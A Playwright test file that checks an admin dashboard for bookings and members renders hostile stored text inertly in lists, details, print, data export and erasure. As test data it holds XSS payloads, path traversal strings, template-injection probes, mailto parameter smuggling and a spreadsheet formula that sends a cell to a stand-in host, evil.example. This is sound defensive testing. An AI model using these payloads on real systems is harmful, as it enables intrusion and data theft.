import { readFileSync } from 'node:fs';
import type { Locator, Page } from '@playwright/test';
import type { PersonExport } from '@finesse/api/contract/privacy';
import { LIST, PRIVACY, storedAbout } from '../../test/names';
import { expect, makeBooking, makeMember, test, unique } from '../kit/dashboard-kit';

/** What somebody may store who means harm; every text must come out as it was typed, and do nothing. */
const PERSON = {
  firstName: '<script>window.harmed=1</script>',
  lastName: '../../etc/passwd',
  phone: '+44 7700 900123 <svg/onload=alert()>',
  instagram: 'javascript:window.harmed=1',
};
const BOOKING = {
  ...PERSON,
  location: '"><img src=x onerror="window.harmed=1">&q=#?../../etc/passwd',
  flavourPreferences: '=HYPERLINK("https://evil.example?"&A1,"mint")',
  specialRequirements: '</dd></textarea><script>window.harmed=1</script>{{7*7}}${7*7}',
};
/** A chat that begins with name and reference, each encoded. */
const chat = (rest: string) =>
  expect.stringMatching(
    new RegExp(
      `^https://wa\\.me/447700900123\\?text=${encodeURIComponent(`Hello ${PERSON.firstName}, this is Finesse`)}${rest}$`,
    ),
  ) as unknown as string;
const CHAT = chat('%20about%20F-\\w{6}\\.%20');
const MEMBER_CHAT = chat('\\.%20');
const PAGE = expect.stringMatching(/^\/admin\/bookings\/[-0-9a-f]{36}$/) as unknown as string;
const MAP = `https://www.google.com/maps/search/?api=1&query=${encodeURIComponent(BOOKING.location)}`;

/** An address that a mail program would take for a subject and a text, were it not encoded. */
const mean = () => {
  const name = unique();
  return {
    email: `${name}?subject=hi&body='x'@example.com`,
    link: `mailto:${name}%3Fsubject%3Dhi%26body%3D'x'@example.com`,
  };
};

async function expectHarmless(page: Page): Promise<void> {
  // A picture that is asked for last, and is none: what a text brought in would have failed before.
  await page.evaluate(
    () =>
      new Promise((resolve) => {
        const last = new Image();
        last.onerror = resolve;
        last.src = '/robots.txt';
      }),
  );
  expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
  const odd = await page.locator('a[href]').evaluateAll((links) =>
    links
      .map((link) => link as HTMLAnchorElement)
      .filter(({ protocol, origin }) => {
        const known = ['https:', 'mailto:', 'tel:'].includes(protocol);
        return !known && origin !== location.origin;
      })
      .map(({ href }) => href),
  );
  expect(odd).toEqual([]);
  expect(await page.locator('script:not([src]):not([type="application/json"])').count()).toBe(0);
  expect(await page.locator('img[onerror], svg[onload]').count()).toBe(0);
}

const hrefs = (part: Locator) =>
  part.getByRole('link').evaluateAll((links) => links.map((link) => link.getAttribute('href')));

const typed = async (part: Locator, texts: string[]) => {
  for (const text of texts) await expect(part).toContainText(text);
};

test.beforeEach(({ page }) => {
  page.on('dialog', (dialog) => {
    void dialog.dismiss();
    throw new Error(`a stored text opened a dialog: ${dialog.message()}`);
  });
});

test('hostile text: a booking’s is harmless in the list, its details, in print, in the export of a person and when it is erased', async ({
  page,
}) => {
  const { email, link } = mean();
  await makeBooking(page.request, { ...BOOKING, email });
  await page.goto(`/admin?q=${encodeURIComponent(email)}`);
  const row = page.getByRole('row').filter({ hasText: PERSON.firstName });
  await typed(row, [PERSON.lastName, PERSON.phone, PERSON.instagram, email]);
  expect(await hrefs(row)).toEqual([PAGE, link, 'tel:+447700900123', CHAT, MAP]);
  await expectHarmless(page);

  await row.getByRole('button', { name: LIST.viewDetails }).click();
  const details = page.getByRole('dialog', { name: 'Booking Details' });
  await typed(details, [...Object.values(BOOKING), email]);
  expect(await hrefs(details)).toEqual([PAGE, link, 'tel:+447700900123', CHAT, MAP]);
  await expectHarmless(page);

  await page.emulateMedia({ media: 'print' });
  await typed(details, Object.values(BOOKING));
  expect((await page.pdf()).subarray(0, 5).toString()).toBe('%PDF-');
  await expectHarmless(page);

  await page.emulateMedia({ media: 'screen' });
  await page.goto('/admin');
  await page.getByRole('button', { name: PRIVACY.open }).click();
  const dialog = page.getByRole('dialog', { name: PRIVACY.dialog });
  await dialog.getByLabel('Email').fill(email);
  await dialog.getByRole('button', { name: PRIVACY.lookUp }).click();
  await expect(dialog.getByRole('heading', { name: storedAbout(email) })).toBeVisible();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    dialog.getByRole('button', { name: 'Download' }).click(),
  ]);
  // The name is the server's own, so that nobody's words become a path.
  expect(download.suggestedFilename()).toMatch(/^personal-data-[\d-]+\.json$/);
  const file = JSON.parse(readFileSync(await download.path(), 'utf8')) as PersonExport;
  expect(file.bookings).toMatchObject([{ ...BOOKING, email }]);
  await dialog.getByRole('button', { name: PRIVACY.erase }).click();
  await expect(page.getByRole('alertdialog')).toContainText(email);
  await page.getByRole('alertdialog').getByRole('button', { name: 'Erase' }).click();
  await expect(dialog).toHaveCount(0);
  await expectHarmless(page);
});

test('hostile text: a member’s is harmless in the list and the history, and a search shows it as text', async ({
  page,
}) => {
  const { email, link } = mean();
  await makeMember(page.request, { ...PERSON, email });
  await page.goto(`/admin?tab=members&q=${encodeURIComponent(email)}`);
  const row = page.getByRole('row').filter({ hasText: PERSON.firstName });
  await typed(row, [PERSON.lastName, PERSON.phone, PERSON.instagram, email]);
  expect(await hrefs(row)).toEqual([link, 'tel:+447700900123', MEMBER_CHAT]);
  await row.getByRole('button', { name: 'History' }).click();
  await typed(page.getByRole('dialog'), [PERSON.firstName, PERSON.lastName]);
  await expectHarmless(page);

  const q = `<img src=x onerror="window.harmed=1">${unique()}`;
  await page.goto(`/admin?q=${encodeURIComponent(q)}`);
  await expect(page.getByText(q).first()).toBeVisible();
  await expectHarmless(page);
});
